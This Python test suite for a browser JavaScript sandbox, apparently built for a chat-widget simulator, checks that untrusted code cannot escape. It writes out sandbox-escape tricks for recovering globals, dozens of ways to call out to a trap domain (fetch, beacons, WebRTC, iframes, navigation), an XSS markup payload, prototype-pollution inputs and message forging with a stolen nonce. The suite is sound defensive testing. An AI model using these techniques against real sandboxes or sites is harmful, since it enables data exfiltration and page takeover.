"""Code that wants out of the sandbox: nobody is reached, and the page around it stays as it was.

Each attack is tried three times: by code that a reader runs; in a worker from which nothing was
taken away, so that only the policy of the frame is left; and by code that somebody got to run in
the frame itself.
"""

from __future__ import annotations

import json
from contextlib import suppress
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import Error

from tests.sandbox.host_page import Sandbox, inner, write_site
from tests.sandbox.trap import DOMAIN, Trap, names_asked

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserType, Frame

# Everything by which code might get at what it does not see.
REACH = """
const reach = (name) => {
  const global = Function('return this')();
  const ways = [
    () => globalThis[name], () => window[name], () => self[name], () => (0, eval)(name),
    () => (async () => {}).constructor(`return ${name}`)(),
    () => { for (let one = global; one; one = Object.getPrototypeOf(one)) {
      const found = Object.getOwnPropertyDescriptor(one, name);
      const value = found && (found.value ?? found.get.call(global));
      if (value) return value;
    } },
    () => Object.getPrototypeOf(global).constructor[name],
    () => document[name], () => document.constructor.constructor(`return ${name}`)(),
    () => console.constructor.constructor(`return ${name}`)(),
    () => { try { null.x } catch (error) {
      return error.constructor.constructor(`return ${name}`)();
    } },
    () => { let found; Error.prepareStackTrace = (_, sites) => sites;
      for (const site of new Error().stack) {
        found ??= site.getThis()?.[name] ?? site.getFunction()?.[name];
      }
      return found; },
  ];
  for (const way of ways) {
    try { const found = way(); if (found && !found.then) return found; } catch {}
  }
  throw new Error('out of reach');
};
"""

NETWORK = {
    "fetch": "reach('fetch')(URL)",
    "fetch-blind": "reach('fetch')(URL, { mode: 'no-cors', keepalive: true, method: 'POST' })",
    "xhr": """const X = reach('XMLHttpRequest'); const x = new X();
      x.open('GET', URL); x.send();""",
    "socket": "const S = reach('WebSocket'); new S(URL.replace('http', 'ws'));",
    "events": "const E = reach('EventSource'); new E(URL);",
    "beacon": "reach('navigator').sendBeacon(URL, 'x');",
    "import-scripts": "reach('importScripts')(URL + 'x.js');",
    "import": "import(URL + 'x.js').catch(() => {});",
    "worker": "const W = reach('Worker'); new W(URL + 'x.js');",
    "nested": """const W = reach('Worker'); const B = reach('Blob');
      const code = `fetch('${URL}'); importScripts('${URL}')`;
      new W(reach('URL').createObjectURL(new B([code])));""",
    "shared": "const W = reach('SharedWorker'); new W(URL + 'x.js');",
    "transport": "const T = reach('WebTransport'); new T(URL.replace('http', 'https'));",
    "font-face": "const F = reach('FontFace'); new F('x', `url(${URL}x.woff2)`).load();",
    "cache": "reach('caches').open('x').then((cache) => cache.add(URL));",
    "webrtc": """const R = reach('RTCPeerConnection');
      const one = new R({ iceServers: [{ urls: `stun:127.0.0.1:${UDP}` }] });
      one.createDataChannel('x');
      one.createOffer().then((offer) => one.setLocalDescription(offer));""",
}

# What needs a document: tried in the frame alone.
ELEMENTS = {
    "image": "new Image().src = URL;",
    "style": "add('link', { rel: 'stylesheet', href: URL });",
    "style-text": "add('style', { textContent: `@import '${URL}'; p { color: red }` });",
    "style-sheet": """const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${URL}); }`);
      document.adoptedStyleSheets = [sheet];""",
    "font": """const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face { font-family: x; src: url(${URL}x.woff2) }
        * { font-family: x }`);
      document.adoptedStyleSheets = [sheet];""",
    "script": "add('script', { src: URL });",
    "media": "add('video', { src: URL, autoplay: true });",
    "object": "add('object', { data: URL }); add('embed', { src: URL });",
    "prefetch": "add('link', { rel: 'prefetch', href: URL });",
    "preload": "add('link', { rel: 'preload', as: 'script', href: URL });",
    "module-preload": "add('link', { rel: 'modulepreload', href: URL });",
    "prerender": """add('link', { rel: 'prerender', href: URL });
      add('script', { type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [URL] }] }) });""",
    "preconnect": "add('link', { rel: 'preconnect', href: URL });",
    "dns-prefetch": "add('link', { rel: 'dns-prefetch', href: URL });",
    "icon": "add('link', { rel: 'icon', href: URL });",
    "manifest": "add('link', { rel: 'manifest', href: URL });",
    "frame": "add('iframe', { src: URL });",
    "frame-code": """const frame = document.createElement('iframe');
      frame.srcdoc = `<img src='${URL}'><script>fetch('${URL}')<` + '/script>' +
        `<script src='${URL}'><` + '/script>';
      document.body.append(frame);""",
    "frame-webrtc": """const frame = document.createElement('iframe');
      frame.srcdoc = `<script>const one = new RTCPeerConnection({ iceServers:
        [{ urls: 'stun:127.0.0.1:${UDP}' }] }); one.createDataChannel('x');
        one.createOffer().then((offer) => one.setLocalDescription(offer))<` + '/script>';
      document.body.append(frame);""",
    "frame-own-script": """const code = `const one = new RTCPeerConnection({ iceServers:
        [{ urls: 'stun:127.0.0.1:${UDP}' }] }); one.createDataChannel('x');
        one.createOffer().then((offer) => one.setLocalDescription(offer))`;
      addEventListener('message', ({ source, data }) => {
        if (data.chaportSandbox === 'empty') {
          source.postMessage({ chaportSandbox: 'code', code: `fetch('${URL}');${code}` }, '*');
        }
      });
      const frame = document.createElement('iframe');
      frame.srcdoc = `<body>${document.scripts[0].outerHTML}`;
      document.body.append(frame);""",
    "frame-blob": """const code = `const one = new RTCPeerConnection({ iceServers:
        [{ urls: 'stun:127.0.0.1:${UDP}' }] }); one.createDataChannel('x');
        one.createOffer().then((offer) => one.setLocalDescription(offer))`;
      const address = window.URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
      const frame = document.createElement('iframe');
      frame.srcdoc = `<script src='${address}'><` + '/script>';
      document.body.append(frame);""",
    "form": """const form = add('form', { action: URL, method: 'post' });
      form.submit(); form.requestSubmit();""",
    "form-target": "add('form', { action: URL, target: '_blank' }).submit();",
    "popup": "window.open(URL); window.open(URL, '_top');",
    "ping": "const link = add('a', { href: '#x', ping: URL }); link.click();",
    "link": "const link = add('a', { href: URL, target: '_top' }); link.click();",
    "top": "top.location = URL;",
    "top-href": "top.location.href = URL;",
    "parent": "parent.location.replace(URL);",
    "self": "location = URL;",
    "self-replace": "location.replace(URL);",
    "self-link": "const link = add('a', { href: URL }); link.click();",
    "refresh": "add('meta', { httpEquiv: 'refresh', content: `0; url=${URL}` });",
    "script-link": "add('a', { href: `javascript:fetch('${URL}');location='${URL}'` }).click();",
    "data-link": "location = `data:text/html,<img src=${URL}>`;",
    "blob-link": """location = window.URL.createObjectURL(
      new Blob([`<img src=${URL}>`], { type: 'text/html' }));""",
}
# Chromium opens a connection for a navigation before it forbids it; nothing is asked over it.
AHEAD = {"frame", "self", "self-replace", "self-link", "refresh"}
ADD = """const add = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  (document.head ?? document.documentElement).append(element);
  return element;
};
"""

HERE = """() => ({
  address: location.href, title: document.title, html: document.documentElement.outerHTML,
  storage: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage),
  cookies: document.cookie, globals: Object.keys(window).length,
  polluted: Object.keys({}.__proto__),
})"""


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    trap = Trap()
    trap.open()
    yield trap
    trap.stack.close()


@pytest.fixture(scope="module")
def tried() -> set[str]:
    """The names that attacks have used."""
    return set()


@pytest.fixture(scope="module")
def listening(
    browser_type: BrowserType,
    browser_type_launch_args: dict[str, Any],
    trap: Trap,
    tried: set[str],
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Browser]:
    """A browser that finds all names at the trap, and writes down which ones it was asked for."""
    log = tmp_path_factory.mktemp("net") / "log.json"
    arguments = [*browser_type_launch_args["args"], *trap.arguments, f"--log-net-log={log}"]
    browser = browser_type.launch(**{**browser_type_launch_args, "args": arguments})
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(f"http://control.{DOMAIN}/")
        # A browser may ask for more, such as an icon.
        page.wait_for_timeout(500)
    yield browser
    browser.close()
    asked = names_asked(log)
    assert not asked & tried - {f"frame-{name}" for name in AHEAD}
    assert "control" in asked, "the log does not tell of what is asked"


@pytest.fixture(scope="module")
def sandbox(listening: Browser, serve: Any, tmp_path_factory: pytest.TempPathFactory) -> Sandbox:
    """One page for all attacks: none of them changes it."""
    sandbox = Sandbox(listening.new_page())
    sandbox.page.goto(f"{serve(write_site(tmp_path_factory.mktemp('site')))}/index.html")
    sandbox.page.evaluate("() => { localStorage.kept = 'yes'; document.cookie = 'kept=yes'; }")
    return sandbox


@pytest.fixture(autouse=True)
def unchanged(request: pytest.FixtureRequest) -> Iterator[None]:
    """Nobody was reached, and the page is what it was before."""
    if "sandbox" not in request.fixturenames:
        yield
        return
    page, trap = request.getfixturevalue("sandbox").page, request.getfixturevalue("trap")
    page.evaluate("() => { host.act({ act: 'stop' }); heard = []; }")
    request.getfixturevalue("sandbox").problems.clear()
    pages = len(page.context.pages)
    before = page.evaluate(HERE)
    trap.hits.clear()
    yield
    # Whatever was asked for has had the time of a message there and back.
    page.wait_for_timeout(100)
    page.evaluate("() => host.act({ act: 'stop' })")
    allowed = {"connected"} if goes_ahead(request) else set()
    assert set(trap.hits) <= allowed
    assert page.evaluate(HERE) == before
    assert len(page.context.pages) == pages


def goes_ahead(request: pytest.FixtureRequest) -> bool:
    """Whether the browser itself opens a connection before it looks at the policy."""
    in_frame = request.function is test_the_policy_and_the_sandbox_hold_the_frame
    return in_frame and request.node.callspec.params["name"] in AHEAD


def attack(code: str, name: str, trap: Trap, tried: set[str]) -> str:
    """The code with its address, which nobody else has."""
    tried.add(name)
    given = {"URL": f"http://{name}.{DOMAIN}/", "UDP": trap.udp}
    head = "".join(f"const {key} = {json.dumps(value)};\n" for key, value in given.items())
    # What it shadows has its own name in the attack.
    return f"(() => {{ {head}{code}\n }})();"


def test_the_trap_hears_of_whoever_comes(sandbox: Sandbox, trap: Trap) -> None:
    sandbox.page.evaluate(f"() => fetch('http://control.{DOMAIN}/')")
    assert trap.hits[0] == "connected"
    assert trap.hits[1].startswith("GET / ")
    sandbox.page.evaluate(
        """async (port) => {
          const one = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
          one.createDataChannel('x');
          await one.setLocalDescription(await one.createOffer());
          setTimeout(() => one.close(), 300);
        }""",
        trap.udp,
    )
    for _ in range(100):
        if "packet" in trap.hits:
            break
        sandbox.page.wait_for_timeout(50)
    assert "packet" in trap.hits
    # A browser may open a second connection beside the first.
    sandbox.page.wait_for_timeout(500)
    trap.hits.clear()


@pytest.mark.parametrize("name", NETWORK)
def test_code_reaches_nobody(sandbox: Sandbox, trap: Trap, tried: set[str], name: str) -> None:
    code = attack(REACH + NETWORK[name], f"code-{name}", trap, tried)
    sandbox.run(f"try {{ {code} }} catch (error) {{ console.log(error.message); }}")
    if name != "import":
        assert ("log", "out of reach") in sandbox.lines


@pytest.mark.parametrize("name", NETWORK)
def test_the_policy_alone_holds_a_worker(
    sandbox: Sandbox, trap: Trap, tried: set[str], name: str
) -> None:
    sandbox.run("")
    reach = "const reach = (name) => self[name];\n"
    code = attack(reach + NETWORK[name], f"raw-{name}", trap, tried)
    inner(sandbox).evaluate(
        """(code) => new Promise((done) => {
          const text = `try { ${code} } catch {}; setTimeout(() => postMessage(0), 100)`;
          const worker = new Worker(URL.createObjectURL(new Blob([text])));
          worker.onmessage = done;
          worker.onerror = done;
        })""",
        code,
    )


@pytest.mark.parametrize("name", [*NETWORK, *ELEMENTS])
def test_the_policy_and_the_sandbox_hold_the_frame(
    sandbox: Sandbox, trap: Trap, tried: set[str], name: str
) -> None:
    sandbox.run("chaport.open();")
    reach = "const reach = (name) => window[name];\n"
    code = attack(reach + ADD + {**NETWORK, **ELEMENTS}[name], f"frame-{name}", trap, tried)
    run_in_frame(inner(sandbox), code)


def run_in_frame(frame: Frame, code: str) -> None:
    """Whatever becomes of it."""
    frame.evaluate(
        "(code) => void setTimeout(() => (0, eval)(code))", f"try {{ {code} }} catch {{}}"
    )
    frame.page.wait_for_timeout(200)


# -- messages -------------------------------------------------------------------------------------

LINE = {"level": "log", "text": "forged", "widget": False, "place": None}
FORGED = [{"kind": "line", "line": LINE}]


def texts(sandbox: Sandbox) -> list[str]:
    """What stands on the console of the newest run."""
    return [text for _, text in sandbox.lines]


def test_what_the_page_posts_to_itself_is_no_report(sandbox: Sandbox) -> None:
    sandbox.run("console.log('true')")
    sandbox.page.evaluate("(forged) => window.postMessage(JSON.stringify(forged), '*')", FORGED)
    sandbox.page.evaluate("() => window.postMessage({ chaportSandbox: 'whole' }, '*')")
    sandbox.page.wait_for_timeout(100)
    assert texts(sandbox) == ["true"]


def test_a_frame_that_is_taken_over_speaks_to_nobody(sandbox: Sandbox) -> None:
    sandbox.run("console.log('true')")
    inner(sandbox).evaluate(
        """(forged) => {
          for (const target of [parent, top]) {
            for (const said of [forged, JSON.stringify(forged), { chaportSandbox: 'whole' }]) {
              const { port1, port2 } = new MessageChannel();
              target.postMessage(said, '*', [port2]);
              port1.postMessage(JSON.stringify(forged));
            }
          }
        }""",
        FORGED,
    )
    sandbox.page.wait_for_timeout(100)
    assert texts(sandbox) == ["true"]
    assert sandbox.ended == ["done"]


# Takes the port and the nonce from the first true report, and lets none of them out.
STEAL = """() => {
  const { postMessage } = MessagePort.prototype;
  window.say = (text) => postMessage.call(window.port, text);
  MessagePort.prototype.postMessage = function (text) {
    window.port = this;
    window.nonce = text.slice(0, 32);
  };
}"""


@pytest.fixture
def stolen(sandbox: Sandbox) -> Frame:
    """A frame in which somebody got hold of the port and the nonce before a run."""
    fresh = Sandbox(sandbox.page)
    sandbox.page.evaluate("() => { heard = []; return host.step(); }")
    sandbox.page.reload()
    assert fresh.step() == "whole"
    frame = inner(fresh)
    frame.evaluate(STEAL)
    sandbox.start("console.log('true')")
    frame.wait_for_function("() => window.port")
    return frame


def say(frame: Frame, text: str) -> None:
    """Send a text as it is over the stolen port; what ends the run takes the frame away."""
    with suppress(Error):
        frame.evaluate("(text) => void setTimeout(() => say(text.replace('NONCE', nonce)))", text)


def test_a_message_without_the_nonce_ends_the_run(sandbox: Sandbox, stolen: Frame) -> None:
    say(stolen, json.dumps(FORGED))
    sandbox.wait("ended")
    assert sandbox.ended == ["crashed"]
    assert texts(sandbox) == []
    assert sandbox.page.main_frame.child_frames == []


def test_with_the_nonce_only_reports_can_be_said(sandbox: Sandbox, stolen: Frame) -> None:
    say(stolen, "NONCE" + json.dumps(FORGED))
    sandbox.wait("line")
    assert texts(sandbox) == ["forged"]
    say(stolen, 'NONCE[{"kind":"line","line":{"level":"log","text":{"toString":1}}}]')
    sandbox.wait("ended")
    assert sandbox.ended == ["crashed"]


BAD = {
    "no list": '{"kind":"started"}',
    "unknown": '[{"kind":"run"}]',
    "inherited": '[{"kind":"constructor"}]',
    "proto": '[{"kind":"__proto__"}]',
    "nothing": "[null]",
    "number": "[1]",
    "text": '[{"kind":"ended","why":"<img src=x onerror=alert(1)>"}]',
    "level": '[{"kind":"line","line":{"level":"fatal","text":"","widget":false,"place":null}}]',
    "place": '[{"kind":"line","line":{"level":"log","text":"","widget":false,"place":"x"}}]',
    "state": '[{"kind":"state","state":{"widget":"collapsed"}}]',
    "trace": '[{"kind":"trace","entries":{"length":1}}]',
    "entry": '[{"kind":"trace","entries":[{"t":"0","kind":"run","name":"x"}]}]',
    "outcome": '[{"kind":"outcome","form":"traditional","outcome":{}}]',
    "no json": "[",
    "long": "[" + " " * 2_000_001 + "]",
}


@pytest.mark.parametrize("name", BAD)
def test_what_is_no_report_ends_the_run(sandbox: Sandbox, stolen: Frame, name: str) -> None:
    say(stolen, "NONCE" + BAD[name])
    sandbox.wait("ended")
    assert [each["kind"] for each in sandbox.heard] == ["ended"]
    assert sandbox.ended == ["crashed"]


def test_proto_in_a_report_changes_no_object(sandbox: Sandbox, stolen: Frame) -> None:
    line = json.dumps(FORGED).replace('{"kind', '{"__proto__":{"owned":1},"kind')
    say(stolen, "NONCE" + line)
    sandbox.wait("line")
    assert sandbox.page.evaluate("() => [({}).owned, heard[0].owned]") == [None, None]


def test_a_million_messages_end_the_run(sandbox: Sandbox, stolen: Frame) -> None:
    stolen.evaluate(
        """() => void setTimeout(() => {
          const text = nonce + '[{"kind":"pong"}]';
          for (let count = 0; count < 1e6; count += 1) say(text);
        })"""
    )
    sandbox.wait("ended")
    assert sandbox.ended == ["limit"]
    assert sandbox.page.main_frame.child_frames == []


def test_after_stop_nothing_is_heard(sandbox: Sandbox, stolen: Frame) -> None:
    stolen.evaluate(
        """() => { const text = nonce + '[{"kind":"started"}]';
          window.again = setInterval(() => say(text), 30); }"""
    )
    sandbox.wait("started")
    sandbox.page.evaluate("() => { heard = []; host.act({ act: 'stop' }); }")
    sandbox.page.wait_for_timeout(200)
    assert sandbox.ended == ["stopped"]
    assert [each["kind"] for each in sandbox.heard] == ["ended"]


def test_an_older_run_is_not_heard_in_a_newer_one(sandbox: Sandbox, stolen: Frame) -> None:
    stolen.evaluate(
        """() => { const text = nonce + '[{"kind":"started"}]';
          window.again = setInterval(() => say(text), 30); }"""
    )
    sandbox.wait("started")
    sandbox.run("console.log('newer')")
    assert texts(sandbox) == ["newer"]
    runs = sandbox.page.evaluate("() => heard.map((one) => one.run)")
    assert runs == sorted(runs)
    assert len(sandbox.of("started")) == 1


@pytest.mark.parametrize("where", ["inner", "outer"])
def test_a_frame_that_goes_elsewhere_ends_its_run(sandbox: Sandbox, where: str) -> None:
    sandbox.run("console.log('true')")
    frame = inner(sandbox) if where == "inner" else sandbox.frame
    frame.evaluate("() => void setTimeout(() => { location = 'about:blank'; })")
    sandbox.wait("ended", 2)
    assert sandbox.ended == ["done", "crashed"]
    assert sandbox.page.main_frame.child_frames == []


# -- floods ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    {
        "lines": "for (let n = 0; n < 1e6; n += 1) console.log(n);",
        "text": "for (let n = 0; n < 1000; n += 1) console.log('x'.repeat(1e5));",
        "forever": "while (true) console.log('x');",
        "widget": "for (let n = 0; n < 1e5; n += 1) chaport.q('nothing');",
        "rejections": "for (let n = 0; n < 1e5; n += 1) Promise.reject(n);",
        "timers": "setInterval(() => { for (let n = 0; n < 50; n += 1) console.log(n); }, 1);",
    }.values(),
)
def test_a_run_that_says_too_much_ends(sandbox: Sandbox, code: str) -> None:
    sandbox.run(code)
    assert sandbox.ended == ["limit"]
    assert len(sandbox.lines) <= 1000
    assert sandbox.page.main_frame.child_frames == []


def test_a_log_of_a_hundred_megabytes_is_cut(sandbox: Sandbox) -> None:
    sandbox.run("console.log('x'.repeat(1e8)); console.log(Array(1e7).fill('y'));")
    assert [len(text) for text in texts(sandbox)] <= [10_000, 10_000]
    assert sandbox.ended == ["done"]


def test_data_of_a_hundred_megabytes_ends_the_run(sandbox: Sandbox) -> None:
    sandbox.run("chaport.setVisitorData({ name: 'x'.repeat(1e8) });")
    assert sandbox.ended == ["limit"]


def test_an_endless_loop_leaves_the_page_alone_and_ends_by_itself(sandbox: Sandbox) -> None:
    sandbox.start("while (true);", limit=2000)
    sandbox.wait("started")
    assert sandbox.page.evaluate("() => new Promise((done) => setTimeout(() => done('alive')))")
    sandbox.wait("ended")
    assert sandbox.ended == ["limit"]
    assert sandbox.page.main_frame.child_frames == []


def test_stop_ends_an_endless_loop_at_once(sandbox: Sandbox) -> None:
    sandbox.start("while (true);")
    sandbox.wait("started")
    worker = sandbox.worker
    with worker.expect_event("close"):
        frames = sandbox.page.evaluate(
            """() => { host.act({ act: 'stop' });
              return document.querySelectorAll('iframe').length; }"""
        )
    assert frames == 0
    assert sandbox.ended == ["stopped"]


def test_a_listener_that_never_returns_ends_the_run(sandbox: Sandbox) -> None:
    sandbox.run("chaport.on('chat.started', () => { while (true); });", limit=2000)
    sandbox.page.evaluate("() => host.act({ act: 'visitorMessage', text: 'Hello' })")
    sandbox.wait("ended", 2)
    assert sandbox.ended == ["done", "limit"]


# -- values and texts -----------------------------------------------------------------------------

VALUES = {
    "proto": 'console.log(JSON.parse(\'{"__proto__": {"polluted": 1}}\'));',
    "prototype": "Object.prototype.polluted = 'x'; console.log({});",
    "getter": "console.log({ get a() { throw new Error('no'); } });",
    "proxy": "console.log(new Proxy({}, { ownKeys() { throw 1; }, get() { throw 2; } }));",
    "endless-proxy": """const endless = new Proxy({}, { get: () => endless, ownKeys: () => ['a'],
        getOwnPropertyDescriptor: () =>
          ({ value: endless, enumerable: true, configurable: true }) });
        console.log(endless);""",
    "to-json": """console.log({ toJSON() { throw 1; } });
        Object.prototype.toJSON = () => 'mine'; Array.prototype.toJSON = () => 'mine';
        console.log('after');""",
    "to-string": "console.log({ toString() { throw 1; }, [Symbol.toPrimitive]() { throw 2; } });",
    "symbol": "console.log(Symbol('x'), Object.create(null), 10n, () => {}, class A {});",
    "thrown": "throw { get message() { throw 1; }, get stack() { throw 2; } };",
    "thrown-proxy": "throw new Proxy(new Error('x'), { get() { throw 1; } });",
    "arguments": "chaport.setVisitorData(new Proxy({}, { get() { throw 1; } }));",
    "builtins": """Array.prototype.push = Array.prototype.map = JSON.stringify = () => { throw 1; };
        String.prototype.slice = () => ({}); Promise.prototype.then = () => {};
        console.log('after');""",
}


@pytest.mark.parametrize("name", VALUES)
def test_no_value_breaks_the_page(sandbox: Sandbox, name: str) -> None:
    sandbox.run(VALUES[name])
    assert sandbox.problems == []
    assert sandbox.page.evaluate("() => ({}).polluted") is None
    for level, text in sandbox.lines:
        assert isinstance(text, str), level


MARKUP = '<img src=x onerror="parent.owned=1"><script>parent.owned=1</script>'


def test_markup_is_text_wherever_it_is_shown(sandbox: Sandbox) -> None:
    said = json.dumps(MARKUP)
    sandbox.run(
        f"""document.title = {said};
        document.querySelector({said}).addEventListener('click', () => {{}});
        const button = document.createElement('button');
        button.textContent = {said};
        button.addEventListener({said}, () => {{}});
        button.addEventListener('click', () => {{}});
        console.log({said}); alert({said});
        chaport.openIn({{ selector: {said} }});
        throw new Error({said});""",
        page={"url": "https://example.com/", "title": MARKUP, "referrer": MARKUP, "language": "en"},
        simulator={"account": {"appearance": {"teamName": MARKUP, "onlineWelcome": MARKUP}}},
    )
    for act in ("visitorMessage", "operatorMessage"):
        sandbox.page.evaluate("(act) => host.act(act)", {"act": act, "text": MARKUP})
    frame = inner(sandbox)
    frame.wait_for_selector("text=onerror")
    frame.wait_for_function(
        "() => document.querySelector('.box-inside, [part=box-inside]')?.firstElementChild"
    )
    for root in ("document", "document.querySelector('chaport-simulator')?.shadowRoot"):
        made = f"() => [...({root})?.querySelectorAll('img, [onerror]') ?? []].length"
        assert frame.evaluate(made) == 0
    assert frame.evaluate("() => document.querySelectorAll('script').length") == 1
    assert (
        sandbox.page.evaluate("() => [window.owned, document.querySelectorAll('img').length]")
    ) == [None, 0]


def test_a_request_chooses_no_script_and_no_host(sandbox: Sandbox, tried: set[str]) -> None:
    tried.add("chosen")
    address = f"http://chosen.{DOMAIN}/"
    config = {"appId": "f" * 24, "host": address, "src": address, "script": address}
    sandbox.run(
        "chaport.open();",
        config={"data": config},
        simulator={"account": {"host": address}, "src": address},
        page={"url": address, "title": "x", "referrer": address, "language": "en", "base": address},
        base=address,
        src=address,
        host=address,
        script=address,
    )
    assert sandbox.ended == ["done"]
    assert inner(sandbox).url == "about:srcdoc"


def test_the_file_does_nothing_where_it_would_have_an_origin(
    sandbox: Sandbox, listening: Browser
) -> None:
    with listening.new_context() as context:
        page = context.new_page()
        page.goto(sandbox.page.url.replace("index.html", "chaport/sandbox.html"))
        assert page.frames == [page.main_frame]
        assert page.locator("body").inner_text() == ""
        page.goto(sandbox.page.url)
        page.evaluate(
            """() => new Promise((done) => {
              const frame = document.createElement('iframe');
              frame.src = 'chaport/sandbox.html';
              frame.onload = done;
              document.body.append(frame);
            })"""
        )
        assert page.frames[-1].child_frames == []


def test_storage_and_cookies_of_the_site_are_not_the_frames(sandbox: Sandbox) -> None:
    sandbox.run("")
    for frame in (sandbox.frame, inner(sandbox)):
        for what in ("localStorage", "sessionStorage", "document.cookie", "caches.keys()"):
            ask = f"return await ({what}) && 'there'"
            asked = f"async () => {{ try {{ {ask} }} catch {{ return 'no' }} }}"
            assert frame.evaluate(asked) in ("no", "")
        assert (
            frame.evaluate("() => { try { document.domain = 'x' } catch { return 'no' } }") == "no"
        )


def test_no_channel_reaches_the_page(sandbox: Sandbox) -> None:
    sandbox.page.evaluate(
        """() => { window.channel = new BroadcastChannel('x');
          channel.onmessage = () => { owned = 1; }; }"""
    )
    sandbox.run(
        "try { new BroadcastChannel('x').postMessage(1); } catch (e) { console.log(e.message); }"
    )
    assert texts(sandbox) == ["not in the sandbox: BroadcastChannel"]
    inner(sandbox).evaluate("() => new BroadcastChannel('x').postMessage(1)")
    sandbox.page.wait_for_timeout(100)
    assert sandbox.page.evaluate("() => window.owned") is None
    sandbox.page.evaluate("() => { channel.close(); delete window.channel; }")


def test_code_cannot_speak_for_the_worker(sandbox: Sandbox) -> None:
    attempt = "try { reach('postMessage')(1); } catch (error) { console.log(error.message); }"
    sandbox.run(REACH + attempt)
    assert texts(sandbox)[0] == "out of reach"
    assert sandbox.ended == ["done"]


def test_nothing_of_the_browser_is_left_to_code(sandbox: Sandbox) -> None:
    """Whatever a browser adds to workers is taken away with the rest."""
    sandbox.run(
        """const global = Function('return this')();
        const native = [];
        for (let one = global; one && one !== Object.prototype; one = Object.getPrototypeOf(one)) {
          for (const key of Reflect.ownKeys(one)) {
            const { value, get } = Object.getOwnPropertyDescriptor(one, key);
            for (const each of [value, get]) {
              const text = typeof each === 'function' ? Function.prototype.toString.call(each) : '';
              if (text.includes('[native code]')) native.push(String(key));
            }
          }
        }
        console.log(native.sort().join(' '));"""
    )
    (left,) = texts(sandbox)
    allowed = sandbox.page.evaluate(
        """() => { const frame = document.createElement('iframe'); document.body.append(frame);
          const names = Object.getOwnPropertyNames(frame.contentWindow); frame.remove();
          return names; }"""
    )
    language = {name for name in left.split() if name[0].isupper()}
    assert language <= set(allowed)
    browser = {
        "Worker",
        "Blob",
        "URL",
        "Event",
        "EventTarget",
        "MessageChannel",
        "Request",
        "Response",
    }
    assert not language & browser
    functions = (
        "decodeURI decodeURIComponent encodeURI encodeURIComponent escape eval isFinite isNaN"
    )
    assert set(left.split()) - language <= {
        *functions.split(),
        "parseFloat",
        "parseInt",
        "unescape",
    }
